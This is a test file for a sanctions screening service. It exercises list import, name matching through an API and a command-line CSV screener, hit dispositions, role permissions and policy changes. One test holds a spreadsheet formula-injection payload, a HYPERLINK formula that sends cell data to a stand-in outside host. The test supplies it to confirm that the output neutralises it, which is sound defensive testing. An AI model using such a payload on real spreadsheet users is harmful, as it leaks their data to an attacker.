import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { runHere } from '../../support/command-here.ts'
import { startBench } from '../api/support.ts'
import type { Bench, Person } from '../api/support.ts'

let bench: Bench
let auditor: Person

const key = <M extends string>(method: M, query = '', body?: unknown) =>
  bench.ask(method, `/v4/screening/retrieve?${query}`, {
    ...(body === undefined ? {} : { body }),
    headers: { authorization: `Bearer ${bench.apiKey}`, 'x-api-key': undefined, 'x-workspace-id': bench.workspaceId },
  })
const v1 = async <M extends string, A extends string>(method: M, address: A, body?: unknown, as?: Person) =>
  await bench.ask(method, address, { ...(body === undefined ? {} : { body }), ...(as === undefined ? {} : { as }) })

const list =
  'name,kind,date_of_birth,country\nAleksandr Petrov,person,1962-03-21,RU\nHarbour Trading LLC,organisation,,CY\n'

/** Imports a list over the interface, and waits until it is searched. */
const importList = async (text: string, named: string): Promise<void> => {
  const staged = await bench.ask('POST', `/v1/screening/list-imports?file_name=${named}.csv`, {
    raw: text,
    headers: { 'content-type': 'application/octet-stream' },
  })
  expect(staged.status, staged.text).toBe(201)
  const { id } = staged.data
  expect(
    (
      await v1('POST', `/v1/screening/list-imports/${id}/run`, {
        key: named,
        title: `List ${named}`,
        allow_shrink: true,
      })
    ).status,
  ).toBe(202)
  await vi.waitFor(async () => {
    const { data } = await v1('GET', `/v1/screening/list-imports/${id}`)
    expect(data.state, JSON.stringify(data)).toBe('done')
  }, 60_000)
  await vi.waitFor(async () => {
    expect((await v1('GET', '/v1/screening/status')).data.lists.map((one) => one.key)).toContain(named)
  }, 60_000)
}

beforeAll(async () => {
  bench = await startBench()
  auditor = await bench.addPerson('auditor', 'aud')
})
afterAll(() => bench.close())

describe('before a list is there', () => {
  test('each answer says so, and none says clear', async () => {
    const alone = await key('GET')
    expect(alone).toMatchObject({
      status: 200,
      body: {
        success: true,
        data: { status: 'no_lists', timestamp: expect.any(String) as unknown, lists: [], last_screenings: [] },
      },
    })
    const asked = await key('POST', '', { name: 'Aleksandr Petrov' })
    expect(asked).toMatchObject({
      status: 200,
      body: { data: { status: 'no_lists', lists: [], screening: { status: 'no_lists', matches: [] } } },
    })
    expect((await v1('POST', '/v1/screening/screenings', { names: ['Anna Ek'] })).data.status).toBe('no_lists')
    const { result } = await screened('name\nAnna Ek\n')
    expect(result).toMatchObject({
      code: 1,
      lines: [{ no_lists: 1, clear: 0 }],
      stderr: expect.stringContaining('No list is imported') as unknown,
    })
  })
})

const screened = async (
  text: string,
  ...options: string[]
): Promise<{ result: Awaited<ReturnType<typeof runHere>>; out: string }> => {
  const file = path.join(path.dirname(bench.dataDir), 'people.csv')
  const out = path.join(path.dirname(bench.dataDir), 'results.csv')
  writeFileSync(file, text)
  const result = await runHere('screen', file, '--data', bench.dataDir, '--out', out, ...options)
  try {
    return { result, out: readFileSync(out, 'utf8') }
  } catch {
    return { result, out: '' }
  } finally {
    rmSync(out, { force: true })
  }
}

describe('with a list', () => {
  beforeAll(() => importList(list, 'local'))

  test('a file is screened whose columns are named below a title, and the line is told', async () => {
    const { result, out } = await screened(
      'Customers of the branch;\nMade on;27.11.2026\nName;Vorname\nPetrov;Alexander\n',
    )
    expect(out).toContain('Alexander Petrov,hits')
    expect(result.stderr).toContain('line 3 names the columns')
  })

  test('POST screens now and shows the match token by token; GET finds it again', async () => {
    const { data } = await key('POST', '', {
      name: 'PETROV, Alexander',
      kind: 'person',
      date_of_birth: '1962',
      country: 'RU',
    })
    expect(data).toMatchObject({
      status: 'hits',
      lists: [{ key: 'local', title: 'List local', age_state: 'current' }],
      screening: { status: 'hits', subject: null, hits: 1 },
    })
    const match = data.screening?.matches[0]
    expect(match).toMatchObject({
      list: 'local',
      listed_name: 'Aleksandr Petrov',
      qualifiers: [
        { kind: 'date', agrees: true },
        { kind: 'country', agrees: true },
      ],
    })
    expect(match?.parts.map((part) => [part.searched, part.listed]).sort()).toEqual([
      ['Alexander', 'Aleksandr'],
      ['PETROV', 'Petrov'],
    ])
    const again = await key('GET', `screening_id=${data.screening?.id}`)
    expect(again.data.screening).toEqual(data.screening)
    expect((await key('GET')).data).toMatchObject({
      status: 'ready',
      hits: { open: 0 },
      last_screenings: [{ id: data.screening?.id }, expect.anything(), expect.anything()],
    })
  })

  test('whoever fits nobody is clear', async () => {
    expect((await key('POST', '', { name: 'Zofia Wawrzyniak' })).data).toMatchObject({
      status: 'clear',
      screening: { matches: [] },
    })
  })

  test('a subject that is named is registered: its hit is disposed of in the window, and the answer knows', async () => {
    const made = await key('POST', '', { name: 'Aleksandr Petrov', subject_kind: 'customer', subject_id: 'c-1' })
    const id = made.data.screening?.matches[0]?.hit_id
    expect((await key('GET', 'subject_kind=customer&subject_id=c-1')).data).toMatchObject({
      status: 'hits',
      subject: { subject: { kind: 'customer', id: 'c-1' } },
      subject_hits: [{ id, state: 'open' }],
    })
    const full = (await v1('GET', `/v1/screening/hits/${id}`)).data
    expect(full).toMatchObject({
      subject_facts: { names: ['Aleksandr Petrov'] },
      listed: { names: [{ text: 'Aleksandr Petrov', quality: 'primary' }], dates: ['1962-03-21'], countries: ['RU'] },
      history: [],
    })
    expect(
      (
        await v1(
          'POST',
          '/v1/screening/dispositions',
          { hit_ids: [id], disposition: 'false_match', reason: 'Passport seen.' },
          auditor,
        )
      ).status,
    ).toBe(403)
    expect(
      (
        await v1('POST', '/v1/screening/dispositions', {
          hit_ids: [id],
          disposition: 'false_match',
          reason: 'Passport seen.',
        })
      ).data,
    ).toMatchObject({ changed: 1 })
    expect((await key('GET', 'subject_kind=customer&subject_id=c-1')).data).toMatchObject({
      status: 'clear',
      subject_hits: [{ state: 'false_match' }],
    })
    expect((await v1('GET', '/v1/screening/subjects/customer/c-1')).data.history.map(({ what }) => what)).toEqual([
      'disposed',
      'screened',
    ])
  })

  test.each<[string, string, unknown, string]>([
    ['nothing but facts', '', { country: 'RU' }, 'body.name'],
    ['half a subject', '', { name: 'A', subject_kind: 'customer' }, 'body.subject_id'],
    ['a list that is not there', '', { name: 'A', lists: ['nope'] }, 'body.lists'],
    ['a date that is none', '', { name: 'A', date_of_birth: '1962-02-30' }, 'body.date_of_birth'],
  ])('%s is refused with its place', async (_what, query, body, place) => {
    const answer = await key('POST', query, body)
    expect(answer.status).toBeGreaterThanOrEqual(400)
    expect(answer.error.details?.map((detail) => detail.path)).toContain(place)
  })

  test('an unknown screening or subject is not found', async () => {
    expect((await key('GET', 'screening_id=0190f3c1-7a00-7000-8000-000000000001')).status).toBe(404)
    expect((await key('GET', 'subject_kind=customer&subject_id=nobody')).status).toBe(404)
    expect((await key('GET', 'subject_kind=customer')).error.details).toMatchObject([{ path: 'query.subject_id' }])
  })

  test('customers and counterparties whom activities name are screened after them, with an alert', async () => {
    const activity = (id: string, metadata: object, more: object = {}) => ({
      transaction_id: id,
      at: '2026-03-04T12:00:00.000Z',
      customer_id: 'c-77',
      counterparty_id: 'x-9',
      amount: 5,
      metadata,
      ...more,
    })
    const taken = await v1('POST', '/v1/transactions', {
      transactions: [
        activity('t-1', {
          customer_name: 'Anna Ek',
          counterparty_name: 'Harbour Trading Ltd.',
          counterparty_country: 'CY',
        }),
        activity('t-2', { customer_name: 42, counterparty_name: ' \u0007 ' }),
      ],
    })
    expect(taken.status, JSON.stringify(taken.body)).toBeLessThan(300)
    await vi.waitFor(async () => {
      expect((await v1('GET', '/v1/screening/hits?subject_kind=counterparty&subject_id=x-9')).data).toMatchObject([
        { listed_name: 'Harbour Trading LLC', subject: { name: 'Harbour Trading Ltd.' } },
      ])
    }, 60_000)
    expect((await v1('GET', '/v1/alerts?source=screening&entity_kind=counterparty&entity_id=x-9')).data).toMatchObject([
      { signals: ['list_match'], title: 'Possible match on List local: counterparty x-9' },
    ])
    expect((await v1('GET', '/v1/screening/subjects/customer/c-77')).data.subject).toMatchObject({
      names: ['Anna Ek'],
      source: 'transactions',
      screened_at: expect.any(String) as unknown,
    })
    const { policy } = (await v1('GET', '/v1/screening/status')).data
    await v1('PUT', '/v1/screening/policy', { ...policy, on_activities: false })
    await v1('POST', '/v1/transactions', {
      transactions: [activity('t-0', { customer_name: 'Bo Lund' }, { customer_id: 'c-78' })],
    })
    expect((await v1('GET', '/v1/screening/subjects/customer/c-78')).status).toBe(404)
    await v1('PUT', '/v1/screening/policy', policy)
    await v1('POST', '/v1/transactions', {
      transactions: [activity('t-3', { customer_name: 'Anna Maria Ek', customer_date_of_birth: '1990-05-01' })],
    })
    await vi.waitFor(async () => {
      expect((await v1('GET', '/v1/screening/subjects/customer/c-77')).data.subject).toMatchObject({
        names: ['Anna Ek', 'Anna Maria Ek'],
        dates: ['1990-05-01'],
      })
    }, 60_000)
  })

  test('a name in which something cannot be seen is screened as it is read', async () => {
    const activity = {
      transaction_id: 't-hidden',
      at: '2026-03-04T12:00:00.000Z',
      customer_id: 'c-77',
      counterparty_id: 'x-hidden',
      amount: 5,
      metadata: { counterparty_name: 'Har\u200bbour Tra\u00adding Ltd.' },
    }
    expect((await v1('POST', '/v1/transactions', { transactions: [activity] })).status).toBeLessThan(300)
    await vi.waitFor(async () => {
      expect((await v1('GET', '/v1/screening/hits?subject_kind=counterparty&subject_id=x-hidden')).data).toMatchObject([
        { listed_name: 'Harbour Trading LLC', searched_name: 'Harbour Trading Ltd.' },
      ])
    }, 60_000)
    expect((await v1('POST', '/v1/screening/screenings', { names: ['Har\u200bbour Trading'] })).data).toMatchObject({
      status: 'hits',
    })
  })

  test('such an alert joins a case though no activity is in it, and the case keeps what the list said', async () => {
    const id = (await v1('GET', '/v1/alerts?source=screening&entity_kind=counterparty&entity_id=x-9')).data[0]?.id
    const opened = (
      await v1('POST', '/v1/cases', {
        title: 'A listed counterparty',
        description: 'Its name is on a list.',
        priority: 'high',
        alert_ids: [id],
      })
    ).data
    expect((await v1('GET', `/v1/alerts/${id}`)).data).toMatchObject({
      case_id: opened.id,
      status: 'escalated',
      transaction_count: 0,
      history: [{ type: 'alert.attached' }],
    })
  })

  test('a new version of the list screens everybody again by itself', async () => {
    await v1('POST', '/v1/screening/subjects', {
      subjects: [{ subject: { kind: 'person', id: 'p-1' }, names: ['Zofia Wawrzyniak'] }],
    })
    await importList(`${list}Zofia Wawrzyniak,person,,PL\n`, 'local')
    await vi.waitFor(async () => {
      expect((await v1('GET', '/v1/screening/hits?subject_id=p-1')).data).toMatchObject([
        { listed_name: 'Zofia Wawrzyniak', list_version: '2' },
      ])
    }, 60_000)
    expect((await v1('GET', '/v1/screening/status')).data.run).toMatchObject({
      reason: 'list_changed',
      lists: [{ key: 'local', version: '2', entries: 1, removed: 0 }],
    })
  })

  test('a whole file is screened from the command line, with results as CSV', async () => {
    const { result, out } = await screened(
      'id,name,type,dob,nationality\n1,"PETROV, Aleksandr",individual,1962,ru\n2,Anna Ek,,,\n3,,,,\n4,Bo Lund,person,tomorrow,\n',
    )
    expect(result).toMatchObject({
      code: 1,
      lines: [{ hits: 1, clear: 1, rejected: 2, no_lists: 0, lists: [{ key: 'local', age_state: 'current' }] }],
    })
    expect(result.stderr).toMatch(/line 4: there is no name.*\nline 5: dates/u)
    const [header, ...rows] = out.replace('\ufeff', '').trim().split('\r\n')
    expect(header).toBe('line,id,name,status,list,entry_id,listed_name,score,why,lists')
    expect(rows).toHaveLength(2)
    expect(rows[0]).toMatch(/^2,1,"PETROV, Aleksandr",hits,local,/u)
    expect(rows[1]).toMatch(/^3,2,Anna Ek,clear,,,,,,local 2/u)
  })

  test('a name that a spreadsheet would run as a formula stands as text in the results', async () => {
    const { out } = await screened('id,name\n-7,"=HYPERLINK(""http://elsewhere.example/""&A1)"\n')
    expect(out).toContain(`2,-7,"'=HYPERLINK(""http://elsewhere.example/""&A1)",clear,`)
  })

  test('a file can be registered, and bad options change nothing', async () => {
    const { result } = await screened('id,name\nf-1,Aleksandr Petrov\n', '--register', 'customer')
    expect(result).toMatchObject({ code: 0, lines: [{ hits: 1 }] })
    expect((await v1('GET', '/v1/screening/hits?subject_id=f-1')).data).toHaveLength(1)
    for (const options of [
      ['--mode', 'guess'],
      ['--threshold', '7'],
      ['--register', 'ghost'],
      ['--delimiter', 'xx'],
      ['--register', 'customer', '--mode', 'ofac'],
    ])
      expect((await screened('id,name\n1,Anna Ek\n', ...options)).result.code).toBe(2)
    expect((await screened('first,last\nAnna,Ek\n')).result).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('one of them name') as unknown,
    })
  })

  test('the policy is an admin’s, and what it changes is told', async () => {
    const { policy } = (await v1('GET', '/v1/screening/status')).data
    expect((await v1('PUT', '/v1/screening/policy', { ...policy, threshold: 0.9 }, auditor)).status).toBe(403)
    expect((await v1('PUT', '/v1/screening/policy', { ...policy, false_match_days: 30 })).data.false_match_days).toBe(
      30,
    )
    expect((await v1('PUT', '/v1/screening/policy', { ...policy, threshold: 0.2 })).status).toBe(400)
    expect((await v1('PUT', '/v1/screening/policy', { ...policy, excluded_lists: ['local', 'local'] })).status).toBe(
      400,
    )
    expect((await v1('GET', '/v1/screening/policy/changes', undefined, auditor)).data).toMatchObject([
      { user_name: expect.any(String) as unknown, policy: { false_match_days: 30 } },
      { policy: { on_activities: true } },
      { policy: { on_activities: false } },
    ])
    expect((await v1('POST', '/v1/screening/policy/preview', { ...policy, threshold: 0.99 })).data).toMatchObject({
      subjects: expect.any(Number) as unknown,
      open: { stays: expect.any(Number) as unknown },
    })
    expect((await v1('POST', '/v1/screening/policy/preview', { ...policy, threshold: 2 })).status).toBe(400)
  })
})
